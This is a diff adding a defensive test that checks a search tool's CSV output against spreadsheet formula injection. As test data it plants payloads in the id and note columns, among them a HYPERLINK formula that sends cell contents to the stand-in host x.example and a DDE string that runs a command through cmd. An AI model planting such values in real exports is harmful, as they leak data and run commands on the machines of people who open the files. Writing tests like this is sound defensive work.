@@ -229,3 +229,36 @@ def test_kind18_no_writer_follows_a_planted_link(writer, session, data, tmp_path
     assert victim.read_text() == "precious"  # never written through a link
     assert out.is_file() and not out.is_symlink()
     assert np.isfinite(out.stat().st_size)
+
+
+# --- kind 34: text a spreadsheet would run (CSV injection) -------------------------------------------------
+def test_kind34_csv_cells_are_spreadsheet_safe(tmp_path):
+    import csv
+
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+    from synth import write_earth_index
+
+    path = write_earth_index(tmp_path / "data.parquet", n=80, d=8)["path"]
+    table = pq.read_table(path)
+    evil = [
+        '=HYPERLINK("http://x.example/?"&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\tx",
+        "\rx",
+    ]
+    ids = [evil[i % len(evil)] + f"#{i}" for i in range(table.num_rows)]
+    table = table.set_column(table.schema.get_field_index("id"), "id", pa.array(ids))
+    pq.write_table(table.append_column("note", pa.array(ids)), path)
+    out = tmp_path / "hits.csv"
+    run = cli("search", str(path), "--at", AT, "-k", "80", "--out", str(out))
+    assert run.returncode == 0, run.stderr
+    with open(out, newline="", encoding="utf-8") as fh:
+        rows = list(csv.DictReader(fh))
+    assert rows
+    for row in rows:
+        for key in ("id", "note"):
+            assert not row[key].startswith(("=", "+", "-", "@", "\t", "\r")), row[key]
+        assert float(row["lon"]) < 0  # a western longitude stays a number
